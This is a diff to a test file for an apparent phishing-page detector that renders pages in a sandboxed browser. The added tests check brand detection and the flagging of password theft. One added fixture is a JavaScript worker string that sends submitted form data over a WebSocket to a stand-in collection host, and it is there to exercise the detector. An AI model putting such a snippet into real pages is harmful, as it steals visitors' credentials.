@@ -1,15 +1,18 @@
 """Each row of the verdict table, on pages in the enclosed browser."""
 
 import base64
+import json
 
 import pytest
 
+from pages.made import brands
 from pages.probe.sites import FORM, HOST, NAMES, PAINT, RECIPIENT, Site, keys, page, probed, ways
 from unhook.limits import ProbeLimits
 from unhook.pages.broker import Answer
 from unhook.pages.browser import availability
 from unhook.pages.browser.browser import Browser
 from unhook.pages.browser.failure import BrowserError
+from unhook.pages.probe.pictured import Pictured
 from unhook.pages.probe.probe import probe
 from unhook.pages.served import DOCUMENT
 
@@ -23,8 +26,8 @@ def test_a_brand_that_follows_the_visitor(browser: Browser) -> None:
     report = probed(browser, page("Sign in", FORM, FRAGMENT + NAMES + PAINT), HOST + "#" + RECIPIENT)
     assert (report.verdict, report.sure, report.adapts) == ("malicious", "high", True)
     assert "brand-follows-visitor" in keys(report)
-    brands = {view.identity.key: view.brand and view.brand.brand.name for view in report.views}
-    assert brands == {
+    named = {view.identity.key: view.brand and view.brand.brand.name for view in report.views}
+    assert named == {
         "N": "Provider C",
         "G": "Provider A",
         "O": "Provider B",
@@ -142,6 +145,35 @@ def test_a_password_to_anothers_host(browser: Browser, way: str, encoding: str) 
     assert report.verdict == "malicious"
     assert "password-to-another" in keys(report)
     assert (way, "collect.example.net", encoding) in ways(report)
+
+
+WORKER = "onmessage=e=>{const w=new WebSocket('wss://collect.example.net/w');w.onopen=()=>w.send(e.data)}"
+
+
+@pytest.mark.parametrize("made", ["'w.js'", f"URL.createObjectURL(new Blob([{json.dumps(WORKER)}]))"])
+def test_a_password_through_a_workers_socket(browser: Browser, made: str) -> None:
+    source = page("Garden club", FORM, f"const w=new Worker({made});" + SUBMITS % "w.postMessage(s)")
+    script = Answer(WORKER.encode(), headers={"content-type": "text/javascript"})
+    report = probed(browser, {HOST: source, HOST + "w.js": script})
+    assert ("websocket", "collect.example.net", "plain") in ways(report)
+    assert "password-to-another" in keys(report)
+
+
+def test_a_worker_asks_as_if_from_its_own_place(browser: Browser) -> None:
+    script = "importScripts('more.js');fetch('log?n='+more).then(a=>a.text()).then(postMessage)"
+    source = page("Garden club", FORM, "new Worker('/w/own.js').onmessage=e=>document.title=e.data")
+    text = {"content-type": "text/javascript"}
+    root = "https://update.victim-site.test/w/"
+    report = probed(
+        browser,
+        {
+            HOST: source,
+            root + "own.js": Answer(script.encode(), headers=text),
+            root + "more.js": Answer(b"var more=7", headers=text),
+            root + "log?n=7": Answer(b"told", headers=text),
+        },
+    )
+    assert {view.title for view in report.views} == {"told"}
 
 
 @pytest.mark.parametrize(
@@ -363,6 +395,20 @@ def test_a_machine_that_cannot_shut_a_browser_in_is_told(monkeypatch: pytest.Mon
     monkeypatch.setattr(availability, "refusal", lambda: "no namespaces")
     with Browser() as own, pytest.raises(BrowserError, match="no namespaces"):
         probe(Site({HOST: page("A", FORM)}), HOST, browser=own)
+
+
+def test_a_name_that_is_only_drawn_is_read_from_the_picture(browser: Browser) -> None:
+    looked: list[bytes] = []
+
+    def reads(picture: bytes) -> Pictured:
+        looked.append(picture)
+        return Pictured("Provider A")
+
+    site = Site({HOST: page("Sign in", "<canvas></canvas>" + FORM)})
+    report = probe(site, HOST, reach="local", brands=brands(), browser=browser, reads=reads)
+    assert report.verdict == "malicious"
+    assert {view.brand.where for view in report.views if view.brand} == {"picture"}
+    assert all(picture.startswith(b"\x89PNG") for picture in looked)
 
 
 def test_alerts_and_windows_keep_nobody(browser: Browser) -> None:
